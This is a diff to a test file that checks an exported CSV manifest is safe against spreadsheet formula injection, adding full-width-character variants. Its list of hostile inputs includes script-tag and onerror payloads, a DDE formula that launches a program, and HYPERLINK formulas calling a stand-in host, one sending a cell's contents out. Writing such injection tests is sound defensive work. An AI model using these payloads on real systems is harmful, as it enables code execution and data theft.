@@ -38,6 +38,7 @@ HOSTILE = {
     "markup": "<script>alert(1)</script>",
     "an image": "<img src=x onerror=alert(1)>",
     "formula": "=cmd|' /C calc'!A0",
+    "formula in wide signs": "＝HYPERLINK(＂https://evil.example/＂)",
     "formula of another kind": '=HYPERLINK("https://evil.example/?"&A1)',
     "plus": "+1+1",
     "minus": "-1+1",
@@ -171,7 +172,7 @@ def test_a_job_of_them_is_delivered_and_its_files_are_harmless(takes: dict[str, 
     assert {item.request["prompt"] for item in manifest.items} == set(takes.values())
     cells = cells_of(root / "manifest.csv")
     assert harmless("".join(cells))
-    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r"))] == []
     assert any(cell.startswith("'=cmd") for cell in cells)
     assert harmless((root / "SHA256SUMS").read_text())
 
